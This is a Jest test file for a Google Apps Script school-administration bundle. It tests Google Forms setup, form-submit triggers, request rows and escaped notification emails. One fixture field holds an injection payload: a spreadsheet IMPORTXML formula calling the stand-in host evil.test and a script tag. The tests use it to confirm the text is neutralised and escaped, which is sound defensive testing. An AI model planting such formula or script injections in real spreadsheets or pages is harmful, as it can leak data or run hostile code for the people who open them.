/**
 * The forms capability through the BUILT bundle in the offline fakes: setup creates the four
 * forms once and names their response sheets; a request answered in Google Forms reaches
 * «Заявки» through the form-submit trigger, and the hourly run sends the acknowledgement.
 * (`npm test` builds first; alone: `npm run build && npx jest test/bundle/forms.test.ts`.)
 */
import { intlZone } from '../../src/adapters/memory/zone';
import { instantOf } from '../../src/domain/calendar';
import { ru } from '../../src/i18n/ru';
import type { CellValue, GasEnvironment } from '../fakes';
import { ADMIN, loadBundle, setSetting, writeSheets } from '../support/gas';

const zone = intlZone('Europe/Moscow');
const NOW = instantOf(zone, '2026-11-27', 15 * 60);
const Q = ru.forms.questions;
const RESPONSE_SHEETS = ['Опрос родителей', 'Опрос учащихся', 'Заявки (ответы)', 'Доступ (ответы)'];

/** A small school, set up by its administrator, mail live. */
function school(): GasEnvironment {
  const env = loadBundle({ now: NOW });
  writeSheets(env, {
    Настройки: [
      ['Ключ', 'Значение', 'Описание'],
      ['admin_emails', ADMIN, ''],
      ['school_email', 'school@school.test', ''],
      ['mail_mode', 'live', ''],
      ['quota_reserve', 0, ''],
    ],
    Классы: [
      ['Класс', 'Классный руководитель (email)', 'Email рассылки класса'],
      ['5А', 'ivanova@school.test', ''],
    ],
    Педагоги: [
      ['ФИО', 'Email', 'Роль'],
      ['Иванова Анна Петровна', 'ivanova@school.test', 'учитель'],
    ],
    Ученики: [
      ['ID', 'ФИО', 'Класс', 'Родитель 1', 'Email родителя 1'],
      ['P1', 'Алексеев Борис Ильич', '5А', 'Алексеева Вера', 'vera@home.test'],
    ],
  });
  env.call('setupWorkbook');
  return env;
}

/** The form whose response sheet is `sheet`. */
function formOf(env: GasEnvironment, sheet: string): string {
  const form = env.forms.list().find((f) => f.destinationSheet === sheet);
  if (!form) throw new Error(`no form answers into «${sheet}»`);
  return String(form.id);
}

/** A sheet's rows as objects keyed by its header. */
function rowsOf(env: GasEnvironment, sheet: string): Array<Record<string, CellValue>> {
  const [header = [], ...rows] = env.spreadsheet.sheetValues(sheet);
  return rows.map((row) => Object.fromEntries(header.map((h, i) => [String(h), row[i] ?? ''])));
}

const REQUEST = {
  [Q.type]: 'печатные материалы',
  [Q.pupilId]: 'P1',
  [Q.applicant]: 'Алексеева Вера',
  [Q.phone]: '+7 912 000-00-00',
  [Q.subject]: 'Математика',
  [Q.description]: '=IMPORTXML("http://evil.test","//a") <script>x</script>',
};

describe('setupWorkbook makes the forms', () => {
  const env = school();

  it('creates the four forms, linked to the spreadsheet, and names their response sheets', () => {
    const forms = env.forms.list();
    expect(forms.map((f) => f.title)).toEqual([
      ru.forms.forms.parentSurvey.title,
      ru.forms.forms.pupilSurvey.title,
      ru.forms.forms.request.title,
      ru.forms.forms.access.title,
    ]);
    expect(forms.map((f) => f.destinationId)).toEqual(Array(4).fill(env.spreadsheet.getId()));
    expect(forms.map((f) => f.destinationSheet)).toEqual(RESPONSE_SHEETS);
    expect(env.spreadsheet.sheetNames()).toEqual(expect.arrayContaining(RESPONSE_SHEETS));
    const request = env.forms.get(formOf(env, 'Заявки (ответы)'));
    expect(request.collectsEmail()).toBe(true);
    expect(env.spreadsheet.sheetValues('Заявки (ответы)')[0]).toEqual([
      'Timestamp',
      'Email Address',
      ...[Q.type, Q.pupilId, Q.class, Q.applicant, Q.phone, Q.subject, Q.description],
    ]);
  });

  it('publishes the four forms: each accepts answers, as Google has required since 30 June 2026', () => {
    for (const form of env.forms.list()) {
      expect([form.title, form.published, form.accepting]).toEqual([form.title, true, true]);
      const raw = env.forms.get(String(form.id));
      expect([raw.isPublished(), raw.isAcceptingResponses()]).toEqual([true, true]);
    }
  });

  it('tells the links in the dialog', () => {
    const prompt = String(env.ui.alerts.at(-1)?.prompt ?? '');
    expect(prompt).toContain(ru.forms.formsCreated(4));
    for (const form of env.forms.list())
      expect(prompt).toContain(env.forms.get(String(form.id)).getPublishedUrl());
  });

  it('a second setup creates no form and no sheet', () => {
    const sheets = env.spreadsheet.sheetNames();
    env.call('setupWorkbook');
    expect(env.forms.list()).toHaveLength(4);
    expect(env.spreadsheet.sheetNames()).toEqual(sheets);
    expect(String(env.ui.alerts.at(-1)?.prompt)).not.toContain(ru.forms.formLinksHeading);
  });
});

describe('setupWorkbook and a form nobody can answer', () => {
  it('an unpublished form refuses answers; setup publishes it again and says so', () => {
    const env = school();
    const survey = env.forms.get(formOf(env, 'Опрос родителей'));
    survey.setPublished(false);
    expect(() => env.forms.submit(survey.getId(), { [Q.pupilId]: 'P1' })).toThrow(
      'is not published',
    );
    env.call('setupWorkbook');
    expect(survey.isPublished()).toBe(true);
    expect(String(env.ui.alerts.at(-1)?.prompt)).toContain(
      ru.forms.formPublished(ru.forms.forms.parentSurvey.title),
    );
  });

  it('a form the school closed stays closed; setup says how to open it', () => {
    const env = school();
    const census = env.forms.get(formOf(env, 'Доступ (ответы)'));
    census.setAcceptingResponses(false);
    env.call('setupWorkbook');
    expect([census.isPublished(), census.isAcceptingResponses()]).toEqual([true, false]);
    expect(String(env.ui.alerts.at(-1)?.prompt)).toContain(
      ru.forms.formNotAccepting(ru.forms.forms.access.title, census.getEditUrl()),
    );
  });
});

describe('a request through Google Forms', () => {
  const env = school();
  env.mail.sent.length = 0;
  const event = env.forms.submit(formOf(env, 'Заявки (ответы)'), REQUEST, {
    email: 'vera@home.test',
  });

  it('reaches «Заявки» through the form-submit trigger, once however often it fires', () => {
    expect(event).not.toBeNull();
    expect(env.triggers.fireFormSubmit(event!)).toBe(1);
    env.triggers.fireFormSubmit(event!);
    const rows = rowsOf(env, 'Заявки');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      ID: 'R-2',
      Тип: 'печатные материалы',
      'ID ученика': 'P1',
      Класс: '5А',
      Статус: 'новая',
      Описание: REQUEST[Q.description],
    });
    expect(rows[0]?.['Срок']).toEqual(instantOf(zone, '2026-12-02'));
    expect(env.mail.sent).toEqual([]);
  });

  it('the hourly run sends the acknowledgement and the staff alert, escaped', () => {
    env.clock.advance(20 * 60_000);
    env.triggers.fireTimeTriggers();
    const sent = env.mail.sent.filter((m) => /R-2/.test(m.subject));
    expect(sent.map((m) => [m.subject, m.to])).toEqual([
      ['Заявка R-2 принята: печатные материалы', 'vera@home.test'],
      ['Новая заявка R-2: печатные материалы, 5А', ADMIN],
    ]);
    expect(sent[1]?.cc).toBe('ivanova@school.test');
    for (const mail of sent) {
      expect(mail.htmlBody).not.toContain('<script>');
      expect(mail.htmlBody).toContain('&lt;script&gt;');
    }
  });

  it('leaves no formula anywhere in the spreadsheet', () => {
    for (const name of env.spreadsheet.sheetNames())
      expect([name, env.spreadsheet.formulasIn(name)]).toEqual([name, []]);
  });

  it('an empty event changes nothing', () => {
    const before = rowsOf(env, 'Заявки');
    env.triggers.fireFormSubmit({ ...event!, namedValues: {}, values: [] });
    env.triggers.fireFormSubmit({ authMode: 'FULL' });
    expect(rowsOf(env, 'Заявки')).toEqual(before);
  });
});

describe('surveys and the census through Google Forms', () => {
  const env = school();
  setSetting(env, 'low_score_threshold', 2);

  it('a low survey score reaches the administrators; the census lands on «Доступ»', () => {
    const survey = env.forms.submit(
      formOf(env, 'Опрос родителей'),
      {
        [Q.pupilId]: 'P1',
        [Q.organisation]: 1,
        [Q.clarity]: 4,
        [Q.feedback]: 5,
        [Q.workload]: 3,
      },
      { email: 'vera@home.test' },
    );
    env.triggers.fireFormSubmit(survey!);
    const census = env.forms.submit(formOf(env, 'Доступ (ответы)'), {
      [Q.pupilId]: 'P1',
      [Q.computer]: 'да',
      [Q.internet]: 'нет',
      [Q.paper]: 'да',
    });
    env.triggers.fireFormSubmit(census!);
    env.triggers.fireFormSubmit(census!);
    expect(rowsOf(env, 'Доступ')).toEqual([
      expect.objectContaining({ 'ID ученика': 'P1', Компьютер: 'да', Интернет: 'нет' }),
    ]);
    env.clock.advance(20 * 60_000);
    env.triggers.fireTimeTriggers();
    const alerts = env.mail.sent.filter((m) => m.subject.startsWith('Низкая оценка'));
    expect(alerts.map((m) => [m.subject, m.to])).toEqual([
      [ru.forms.lowScoreSubject('Опрос родителей', 1), ADMIN],
    ]);
  });
});
